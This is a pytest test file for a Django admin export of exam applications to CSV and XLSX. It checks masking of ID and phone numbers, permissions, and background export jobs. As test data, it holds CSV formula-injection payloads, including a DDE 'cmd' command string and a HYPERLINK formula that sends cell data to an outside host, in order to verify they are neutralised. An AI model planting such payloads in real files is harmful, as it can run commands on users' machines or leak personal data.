"""导出报名: the admin export page, its files (parsed back), masking, formulas, large exports."""

from __future__ import annotations

import csv
import io
import json
import os
import time

import openpyxl
import pytest
from django.urls import reverse
from hostsite.models import Job, JobStatus
from hostsite.services import JobReporter

from forms_app.choices import ApplicationStatus
from forms_app.exchange import services
from forms_app.exchange.hooks import register_export_menu_item, register_import_menu_item
from tests.forms_app.exchange_support import exchange_page, make_application, staff

EXPORT_URL = "/admin/applications-exchange/export/"
DEFAULT_HEADERS = [
    "报名号", "姓名", "身份证号（脱敏）", "手机号（脱敏）", "职业", "工种/方向", "等级",
    "考试批次", "状态", "资格自动判断", "提交时间",
]  # fmt: skip
FORMULAS = ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def form_page(occupation):
    return exchange_page(occupation=occupation)


@pytest.fixture
def viewer(db):
    return staff("viewer", "view_application")


@pytest.fixture
def privileged(db):
    return staff("privileged", "view_application", "view_personal_data")


def post_export(client, user, **data):
    client.force_login(user)
    payload = {
        "columns": data.pop("columns", list(services.DEFAULT_COLUMNS)),
        "file_format": data.pop("file_format", "csv"),
        **data,
    }
    return client.post(EXPORT_URL, payload)


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> tuple[list[list], openpyxl.worksheet.worksheet.Worksheet]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_csv_export_has_chinese_headers_and_masked_personal_data(client, viewer, form_page):
    application = make_application(form_page, name="张三", specialty="网商", level=4)

    response = post_export(client, viewer, file_format="csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert ".csv" in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0] == DEFAULT_HEADERS
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["报名号"] == application.number
    assert row["姓名"] == "张三"
    assert row["身份证号（脱敏）"] == application.id_number_masked
    assert "*" in row["身份证号（脱敏）"] and application.id_number not in response.content.decode()
    assert row["手机号（脱敏）"] == "138****8000"
    assert (row["职业"], row["工种/方向"], row["等级"]) == ("电子商务师", "网商", "四级/中级工")
    assert (row["考试批次"], row["状态"]) == ("2026年第四批", "已提交，待审核")
    assert row["资格自动判断"] == application.eligibility["headline"]
    assert len(rows) == 2


def test_xlsx_export_reads_back_in_a_spreadsheet(client, viewer, form_page):
    make_application(form_page, name="李四", specialty="跨境电子商务师", level=3)

    response = post_export(client, viewer, file_format="xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows, sheet = read_xlsx(response.content)
    assert rows[0] == DEFAULT_HEADERS
    assert sheet.title == "报名名单"
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["姓名"], record["工种/方向"], record["等级"]) == (
        "李四",
        "跨境电子商务师",
        "三级/高级工",
    )
    assert record["手机号（脱敏）"] == "138****8000"


def test_only_the_ticked_columns_are_exported(client, viewer, form_page):
    make_application(form_page, answers={"employer": "锡林郭勒某公司"}, source="import")

    response = post_export(
        client, viewer, columns=["name", "source", "answers", "level"], file_format="csv"
    )

    rows = read_csv(response)
    assert rows[0] == ["姓名", "等级", "来源", "其他填写内容"]  # the resource's column order
    assert rows[1] == ["张三", "四级/中级工", "批量导入", "工作单位：锡林郭勒某公司"]


def test_filters_select_the_applications(client, viewer, form_page):
    other_page = exchange_page(
        occupation=form_page.occupation, slug="apply-other", period_name="2027年第一批"
    )
    make_application(form_page, name="网商四级", specialty="网商", level=4)
    make_application(form_page, name="网商三级", specialty="网商", level=3)
    approved = make_application(form_page, name="已通过", specialty="网商", level=2)
    approved.status = ApplicationStatus.APPROVED
    approved.save()
    make_application(other_page, name="另一批次", specialty="网商", level=4)

    def names(**filters):
        response = post_export(client, viewer, columns=["name"], **filters)
        return sorted(row[0] for row in read_csv(response)[1:])

    assert names(form_page=form_page.pk) == ["已通过", "网商三级", "网商四级"]
    assert names(level=4) == ["另一批次", "网商四级"]
    assert names(status="approved") == ["已通过"]
    assert names(exam_period=other_page.exam_period_id) == ["另一批次"]
    assert names(occupation=form_page.occupation_id, level=3) == ["网商三级"]


def test_full_numbers_need_the_permission_and_the_choice(client, viewer, privileged, form_page):
    application = make_application(form_page)

    masked = read_csv(
        post_export(client, privileged, columns=["id_number_masked", "mobile_masked"])
    )
    assert masked[1] == [application.id_number_masked, "138****8000"]

    full = post_export(
        client, privileged, columns=["id_number_masked", "mobile_masked"], full_personal_data="on"
    )
    rows = read_csv(full)
    assert rows[0] == ["居民身份证号码", "手机号码"]
    # The leading tab keeps Excel from showing the ID number as 1.52502E+17.
    assert rows[1] == ["\t" + application.id_number, "13800138000"]

    xlsx = post_export(
        client,
        privileged,
        columns=["id_number_masked"],
        full_personal_data="on",
        file_format="xlsx",
    )
    assert read_xlsx(xlsx.content)[0][1] == [application.id_number]

    # Without the permission the choice is not offered, and a forged one is ignored.
    client.force_login(viewer)
    page = client.get(EXPORT_URL)
    assert "包含完整身份证号和手机号" not in page.content.decode()
    forged = post_export(client, viewer, columns=["id_number_masked"], full_personal_data="on")
    assert read_csv(forged)[1] == [application.id_number_masked]


def test_the_service_refuses_full_numbers_without_the_permission(viewer, form_page):
    make_application(form_page)
    options = services.ExportOptions(columns=("id_number_masked",), full_personal_data=True)
    with pytest.raises(services.ExportRefused, match="没有查看完整身份证号和手机号的权限"):
        services.export_applications(options=options, user=viewer, stream=io.BytesIO())


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formulas_are_neutralised_in_every_text_cell(client, viewer, form_page, file_format):
    for index, formula in enumerate(FORMULAS):
        # An imported list keeps unknown columns as answers under their header: a hostile
        # file controls the start of the answers cell too.
        make_application(
            form_page, name=formula, level=4 - index % 3, answers={formula: "1"}, source="import"
        )

    response = post_export(
        client, viewer, columns=["name", "answers", "status_reason"], file_format=file_format
    )

    if file_format == "csv":
        rows = read_csv(response)
    else:
        rows, sheet = read_xlsx(response.content)
        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
    assert rows[0] == ["姓名", "审核意见", "其他填写内容"]

    # Reading an XLSX back may turn a lone CR into LF (XML line ends, depending on whether
    # openpyxl writes through lxml); the leading apostrophe is what counts.
    def same(value: str) -> str:
        return value.replace("\r", "\n") if file_format == "xlsx" else value

    names = sorted(same(row[0]) for row in rows[1:])
    assert names == sorted(same("'" + formula) for formula in FORMULAS)
    answers = sorted(same(row[2]) for row in rows[1:])
    assert answers == sorted(same(f"'{formula}：1") for formula in FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r\n", cell


def test_no_matching_application_is_a_clear_message(client, viewer, form_page):
    response = post_export(client, viewer, status="withdrawn")
    assert response.status_code == 404
    assert "没有符合条件的报名" in response.content.decode()


def test_no_column_ticked_is_a_clear_message(client, viewer, form_page):
    response = post_export(client, viewer, columns=[])
    assert response.status_code == 400
    assert "请至少选择一列" in response.content.decode()


def test_staff_without_the_permission_cannot_export(client, form_page):
    editor = staff("editor")
    client.force_login(editor)
    page = client.get(EXPORT_URL)
    assert page.status_code == 403
    assert "您没有使用此页面的权限" in page.content.decode()
    response = client.post(EXPORT_URL, {"columns": ["name"], "file_format": "csv"})
    assert response.status_code == 403
    assert "text/csv" not in response["Content-Type"]


def test_menu_items_follow_the_permissions(rf, viewer):
    request = rf.get("/admin/")
    request.user = viewer
    assert register_export_menu_item().is_shown(request)
    assert not register_import_menu_item().is_shown(request)
    request.user = staff("importer", "add_application")
    assert register_import_menu_item().is_shown(request)


# Large exports: a background job with progress, then a download for its owner only -----------


@pytest.fixture
def small_threshold(settings, private_media):
    settings.FORMS_APP_EXPORT_INLINE_MAX_ROWS = 2
    settings.FORMS_APP_EXPORT_PROGRESS_EVERY = 2
    settings.private_media = private_media
    return settings


@pytest.fixture
def progress_calls(monkeypatch):
    calls = []
    original = JobReporter.progress

    def record(self, done, total, message=""):
        calls.append((done, total))
        original(self, done, total, message)

    monkeypatch.setattr(JobReporter, "progress", record)
    return calls


def start_large_export(client, user, django_capture_on_commit_callbacks, **data):
    with django_capture_on_commit_callbacks(execute=True):
        response = post_export(client, user, **data)
    assert response.status_code == 302
    job = Job.objects.get(owner=user)
    assert response["Location"] == f"/admin/applications-exchange/exports/{job.pk}/"
    return job


def test_a_large_export_runs_as_a_job_with_progress_and_a_download(
    client, viewer, form_page, small_threshold, progress_calls, django_capture_on_commit_callbacks
):
    for level in (4, 3, 2, 1):
        make_application(form_page, specialty="网商", level=level)
    make_application(form_page, specialty="跨境电子商务师", level=4)

    job = start_large_export(client, viewer, django_capture_on_commit_callbacks, file_format="xlsx")

    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED
    assert (job.done, job.total) == (5, 5)
    assert job.message == "导出完成，共 5 行。"
    assert progress_calls == [(0, 5), (2, 5), (4, 5), (5, 5)]
    download_url = f"/admin/applications-exchange/exports/{job.pk}/download/"
    assert job.result_url == download_url
    status = json.loads(client.get(reverse("job_status", args=[job.pk])).content)
    assert status["percent"] == 100 and status["result_url"] == download_url

    page = client.get(f"/admin/applications-exchange/exports/{job.pk}/")
    assert page.status_code == 200
    assert download_url in page.content.decode() and "/jobs/" in page.content.decode()

    download = client.get(download_url)
    assert download.status_code == 200
    assert "attachment" in download["Content-Disposition"]
    rows, _sheet = read_xlsx(b"".join(download.streaming_content))
    assert rows[0] == DEFAULT_HEADERS and len(rows) == 6
    # Kept in private storage (outside MEDIA_ROOT), handed out only by the view above.
    assert (small_threshold.private_media / f"exports/{job.pk}.xlsx").is_file()


def test_only_the_owner_or_a_superuser_downloads_a_large_export(
    client,
    viewer,
    admin_user,
    form_page,
    small_threshold,
    django_capture_on_commit_callbacks,
):
    for level in (4, 3, 2):
        make_application(form_page, level=level)
    job = start_large_export(client, viewer, django_capture_on_commit_callbacks)
    download_url = f"/admin/applications-exchange/exports/{job.pk}/download/"

    client.force_login(staff("colleague", "view_application"))
    assert client.get(download_url).status_code == 404
    assert client.get(f"/admin/applications-exchange/exports/{job.pk}/").status_code == 404

    client.force_login(admin_user)
    assert client.get(download_url).status_code == 200

    client.logout()
    assert client.get(download_url).status_code == 302  # to the admin login


def test_a_full_export_is_not_handed_out_once_the_permission_is_gone(
    client, privileged, form_page, small_threshold, django_capture_on_commit_callbacks
):
    for level in (4, 3, 2):
        make_application(form_page, level=level)
    job = start_large_export(
        client,
        privileged,
        django_capture_on_commit_callbacks,
        columns=["name", "id_number_masked"],
        full_personal_data="on",
    )
    privileged.user_permissions.remove(
        *privileged.user_permissions.filter(codename="view_personal_data")
    )
    client.force_login(type(privileged).objects.get(pk=privileged.pk))

    response = client.get(f"/admin/applications-exchange/exports/{job.pk}/download/")

    assert response.status_code == 403
    assert "没有查看完整个人信息的权限" in response.content.decode()


def test_an_expired_export_file_is_a_clear_message(
    client, viewer, form_page, small_threshold, django_capture_on_commit_callbacks
):
    for level in (4, 3, 2):
        make_application(form_page, level=level)
    job = start_large_export(client, viewer, django_capture_on_commit_callbacks)
    stored = small_threshold.private_media / f"exports/{job.pk}.csv"
    assert stored.is_file()
    old = time.time() - 8 * 24 * 3600
    os.utime(stored, (old, old))

    assert services.exports_prune() == 1
    response = client.get(f"/admin/applications-exchange/exports/{job.pk}/download/")

    assert response.status_code == 404
    assert "导出文件不存在或已过期" in response.content.decode()


def test_an_export_whose_worker_was_killed_offers_a_retry_that_completes_it(
    client, viewer, form_page, small_threshold, django_capture_on_commit_callbacks
):
    from datetime import timedelta

    from django.utils import timezone

    for level in (4, 3, 2):
        make_application(form_page, specialty="网商", level=level)
    job = start_large_export(client, viewer, django_capture_on_commit_callbacks, file_format="csv")
    # The worker died after the first rows: the job stays running and stops reporting.
    Job.objects.filter(pk=job.pk).update(
        status=JobStatus.RUNNING, done=2, updated_at=timezone.now() - timedelta(hours=1)
    )
    page_url = f"/admin/applications-exchange/exports/{job.pk}/"

    html = client.get(page_url).content.decode()
    assert "任务中断（后台进程停止或超时），可以重试。" in html
    assert f'action="/jobs/{job.pk}/retry/"' in html

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/jobs/{job.pk}/retry/", {"next": page_url})
    assert response["Location"] == page_url
    job.refresh_from_db()
    assert (job.status, job.message) == (JobStatus.SUCCEEDED, "导出完成，共 3 行。")
    assert client.get(job.result_url).status_code == 200


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_a_formula_behind_control_characters_stays_text(client, viewer, form_page, file_format):
    """XLSX cannot hold control characters; they are dropped BEFORE the formula check, so
    "\\x01=HYPERLINK(…)" is written as the text "'=HYPERLINK(…)", never as a live formula."""
    hostile = '\x01=HYPERLINK("//x.cn?"&A1,"点")'  # the name column holds 30 characters
    make_application(form_page, name=hostile, answers={"\x02\x03+1+1": "x"})

    response = post_export(client, viewer, columns=["name", "answers"], file_format=file_format)

    if file_format == "xlsx":
        rows, sheet = read_xlsx(response.content)
        cell = sheet.cell(row=2, column=1)
        assert cell.data_type == "s"  # openpyxl reads a formula back as data type "f"
    else:
        rows = read_csv(response)
    assert rows[1][0] == "'" + hostile[1:]
    assert rows[1][1] == "'+1+1：x"  # an imported header controls the start of the cell
